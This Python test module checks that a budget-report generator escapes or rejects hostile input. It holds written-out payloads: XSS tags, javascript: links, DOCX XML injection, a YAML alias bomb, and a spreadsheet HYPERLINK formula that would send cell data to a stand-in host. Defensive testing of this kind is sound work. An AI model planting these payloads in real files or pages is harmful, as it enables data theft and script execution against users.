"""Class 7, the smaller ones: free text that would inject structure, and command-line edges.

Free text prints as typed: a line break and "# …" inside a one-line reason, a paragraph that
looks like a directive, raw HTML or Markdown syntax neither add a heading, renumber the parts,
insert a block, nor reach the .md as markup. The command line refuses an empty format list,
and `diff` has its own exit code (2) for input it cannot compare.
"""

from __future__ import annotations

import json
import zipfile
from pathlib import Path

from hostile.harness import (EXAMPLES, HAIYUAN, LIESHAN, Case, Outcome, Outcomes, Plan, Run, build, copy_example, headings,
                             markdown, written)

REASON = "  收支总计: 上级追加基本公共卫生服务补助资金，医疗收入增加"
DUTIES = "    - 宁夏海原县高崖乡卫生院部门的主要职责是："


def _baseline_headings(base: Path) -> list[str]:
    from reportgen.run import build as run
    from reportgen.writers.markdown import render_text

    return headings(render_text(run(base).document))


def injected(name: str, old: str, new: str, present: str, absent: tuple[str, ...] = (), base: Path = HAIYUAN,
             same_headings: bool = True) -> Case:
    """`new` (JSON-quoted free text) in place of `old`: the build works, the Markdown holds
    `present`, none of `absent`, and exactly the headings of the example (`same_headings`)."""
    def prepare(folder: Path) -> Plan:
        path = copy_example(base, folder / "in", [(old, new)])
        expected = _baseline_headings(base) if same_headings else None

        def verify(o: Outcomes) -> None:
            for label in ("build", "check"):
                got = o[label]
                assert isinstance(got, Outcome) and got.code == 0, f"{label}: exit {got.code}\n{got.text[-2000:]}"
            md = markdown(folder)
            assert present in md, present
            for bad in absent:  # as markup: an escaped "\<script>" is text
                assert bad not in md.replace("\\<", "").replace("\\[", ""), bad
            if expected is not None:
                assert headings(md) == expected, [h for h in headings(md) if h not in expected]

        return Plan({"build": build(path, folder), "check": Run(["check", str(path)], folder)}, verify)

    return Case(name, "text", prepare)


def _reason(text: str) -> str:
    return "  收支总计: " + json.dumps(text, ensure_ascii=False)


def _duty(text: str) -> str:
    return "    - " + json.dumps(text, ensure_ascii=False) + "\n" + DUTIES


def _structure() -> list[Case]:
    return [
        injected("newline-heading-in-reason", REASON, _reason("医疗收入增加\n# 第六部分 伪造的部分"), "医疗收入增加# 第六部分",
                 ("## 第六部分 伪造",)),
        injected("newline-item-in-reason", REASON, _reason("医疗收入增加\n+ 伪造的编号段落"), "医疗收入增加+ 伪造的编号段落"),
        injected("carriage-return-in-reason", REASON, _reason("医疗收入增加\r## 伪造"), "医疗收入增加## 伪造"),
        injected("line-separator-in-reason", REASON, _reason("医疗收入增加\u2028::toc 3"), "医疗收入增加::toc 3"),
        injected("toc-directive-paragraph", DUTIES, _duty("::toc abc"), "::toc abc"),
        injected("pagebreak-directive-paragraph", DUTIES, _duty("::pagebreak"), "::pagebreak"),
        injected("block-directive-paragraph", DUTIES, _duty("::block 0"), "::block 0"),
        injected("shift-directive-paragraph", DUTIES, _duty("::shift +1"), "::shift +1"),
        injected("heading-paragraph", DUTIES, _duty("# 伪造的标题"), "\\# 伪造的标题"),
        injected("numbered-paragraph", DUTIES, _duty("+3 伪造的编号"), "\\+3 伪造的编号"),
        injected("unnumbered-marker-in-project-name", "  - 名称: 老字号", "  - 名称: 老字号 {-}", "老字号 {-}", base=LIESHAN,
                 same_headings=False),
        injected("braces-in-duties", DUTIES, _duty("{{ 7 * 7 }} {% raw %}"), "{{ 7 \\* 7 }} {% raw %}"),
    ]


def _markup() -> list[Case]:
    return [
        injected("script-tag", DUTIES, _duty("<script>alert(1)</script>"), "\\<script>alert(1)\\</script>",
                 ("<script>",)),
        injected("img-onerror", DUTIES, _duty('<img src=x onerror="alert(1)">'), "\\<img src=x", ("<img",)),
        injected("markdown-link", DUTIES, _duty("[点我](javascript:alert(1))"), "\\[点我\\](javascript:alert(1))"),
        injected("markdown-image", DUTIES, _duty("![追踪](http://example.invalid/t.png)"), "!\\[追踪\\]"),
        injected("markdown-emphasis-code", DUTIES, _duty("**粗** _斜_ `代码`"), "\\*\\*粗\\*\\* \\_斜\\_ \\`代码\\`"),
        injected("ordered-list-start", DUTIES, _duty("1. 伪造的列表"), "1\\. 伪造的列表"),
        injected("bullet-start", DUTIES, _duty("- 伪造的列表"), "\\- 伪造的列表"),
        injected("setext-underline", DUTIES, _duty("==="), "\\==="),
        injected("table-pipe-in-name", "\n国有资产:", '\n科目名称:\n  "2100302": "乡镇卫生院|伪造的列"\n\n国有资产:',
                 "乡镇卫生院\\|伪造的列"),
        _docx_escapes(),
    ]


def _docx_escapes() -> Case:
    def prepare(folder: Path) -> Plan:
        path = copy_example(HAIYUAN, folder / "in", [(DUTIES, _duty('</w:t></w:r><w:r><w:t>注入 & "引号"'))])

        def verify(o: Outcomes) -> None:
            got = o["build"]
            assert isinstance(got, Outcome) and got.code == 0, got.text[-2000:]
            [docx] = [p for p in written(folder) if p.suffix == ".docx"]
            with zipfile.ZipFile(docx) as z:
                xml = z.read("word/document.xml").decode("utf-8")
            assert "&lt;/w:t&gt;&lt;/w:r&gt;&lt;w:r&gt;&lt;w:t&gt;注入 &amp;" in xml

        return Plan({"build": build(path, folder)}, verify)

    return Case("docx-xml-in-text", "text", prepare)


def cli(name: str, argv, code: int, says: str) -> Case:
    def prepare(folder: Path) -> Plan:
        good = copy_example(HAIYUAN, folder / "in")
        changed = copy_example(HAIYUAN, folder / "changed", [("  收支总计: 772.10", "  收支总计: 700.00")])
        args = [a.format(good=good, changed=changed, out=folder / "out", missing=folder / "missing.yaml") for a in argv]

        def verify(o: Outcomes) -> None:
            got = o["run"]
            assert isinstance(got, Outcome) and got.code == code, f"exit {got.code}\n{got.text[-2000:]}"
            assert says in got.text, got.text[-2000:]

        return Plan({"run": Run(args, folder)}, verify)

    return Case(name, "text", prepare)


def _command_line() -> list[Case]:
    return [
        cli("format-empty", ["build", "{good}", "-o", "{out}", "-f", ""], 1, "输出格式"),
        cli("format-commas-only", ["build", "{good}", "-o", "{out}", "-f", ",,"], 1, "输出格式"),
        cli("format-unknown", ["build", "{good}", "-o", "{out}", "-f", "odt"], 1, "未知的输出格式"),
        cli("diff-missing-file", ["diff", "{missing}", "{good}"], 2, "文件不存在"),
        cli("diff-same", ["diff", "{good}", "{good}"], 0, "完全相同"),
        cli("diff-changed", ["diff", "{good}", "{changed}"], 1, "44.26"),
        cli("check-missing-file", ["check", "{missing}"], 1, "文件不存在"),
        cli("build-missing-file", ["build", "{missing}", "-o", "{out}"], 1, "文件不存在"),
        cli("audit-missing-file", ["audit", "{missing}"], 1, "不支持的文件类型"),
        cli("workbook-wrong-suffix", ["workbook", "{good}", "-o", "{out}/x.csv"], 1, ".xlsx"),
        cli("check-json-bad-file", ["check", "--json", "{missing}"], 1, "文件不存在"),
    ]


CASES = [*_structure(), *_markup(), *_command_line()]


# The commands added since the issue was filed: next-year and import (--into) read data files too.

def later_command(name: str, kind: str, edits, says: str, command: str) -> Case:
    """A hostile data file given to `next-year` or to `import --into`: exit 1 naming it, no file written."""
    def prepare(folder: Path) -> Plan:
        path = copy_example(HAIYUAN, folder / "in", edits)
        out = folder / "out" / "next.yaml"
        if command == "next-year":
            argv = ["next-year", str(path), "-o", str(out)]
        else:
            workbook = EXAMPLES / "渠县城乡居民社会养老保险管理局-2023-公开表.xlsx"
            argv = ["import", str(workbook), "--into", str(path), "-o", str(out)]

        def verify(o: Outcomes) -> None:
            got = o["run"]
            assert isinstance(got, Outcome) and got.code == 1, f"exit {got.code}\n{got.text[-2000:]}"
            assert str(path) in got.text and says in got.text, got.text[-2000:]
            assert not out.exists()

        return Plan({"run": Run(argv, folder)}, verify)

    return Case(name, kind, prepare)


def _later_commands() -> list[Case]:
    laughs = [("文档类型: 部门决算\n", "文档类型: 部门决算\n说明x: " + _LAUGHS)]
    negative = [("  收支总计: 772.10", "  收支总计: -772.10")]
    tag = [("  收支总计: 772.10", "  收支总计: !unit 772.10")]
    control = [("  名称: 海原县高崖乡卫生院\n", '  名称: "海原县\\e卫生院"\n')]
    # import --into only rewrites figures (check then validates the file); next-year checks it first.
    return [later_command("next-year-negative-prior-year", "numbers", negative, "金额不能为负数", "next-year"),
            *(later_command(f"{command}-{what}", kind, edits, says, command)
              for command in ("next-year", "import-into")
              for what, kind, edits, says in (("alias-bomb", "bounds", laughs, "数据项"),
                                              ("unknown-tag", "crashes", tag, "标签"),
                                              ("escape-in-name", "crashes", control, "控制字符")))]


_LAUGHS = "&a [" + ", ".join(["x"] * 9) + "]\n" + "".join(
    f"说明{i}: &{chr(98 + i)} [{', '.join([f'*{chr(97 + i)}'] * 9)}]\n" for i in range(9))


def _formula_injection() -> list[Case]:
    """Text typed "=…" is text in every workbook reportgen writes, never a formula Excel would run."""
    payload = '=HYPERLINK("http://example.invalid/?"&A1,"点此")'

    def prepare(folder: Path) -> Plan:
        path = copy_example(HAIYUAN, folder / "in", [(REASON, _reason(payload)),
                                                      ("\n国有资产:", '\n科目名称:\n  "2100302": ' + json.dumps(payload)
                                                       + "\n\n国有资产:")])
        runs = {"workbook": Run(["workbook", str(path), "-o", str(folder / "out" / "填报.xlsx")], folder),
                "posted": Run(["build", str(path), "-o", str(folder / "out"), "-f", "xlsx"], folder)}

        def verify(o: Outcomes) -> None:
            for label in runs:
                got = o[label]
                assert isinstance(got, Outcome) and got.code == 0, f"{label}: exit {got.code}\n{got.text[-2000:]}"
            books = [p for p in written(folder) if p.suffix == ".xlsx"]
            assert len(books) == 2, books
            for book in books:
                with zipfile.ZipFile(book) as z:
                    sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")]
                assert not any(b"<f>" in s or b"<f " in s for s in sheets), book.name

        return Plan(runs, verify)

    return [Case("formula-injection-in-workbooks", "text", prepare)]


CASES += [*_later_commands(), *_formula_injection()]
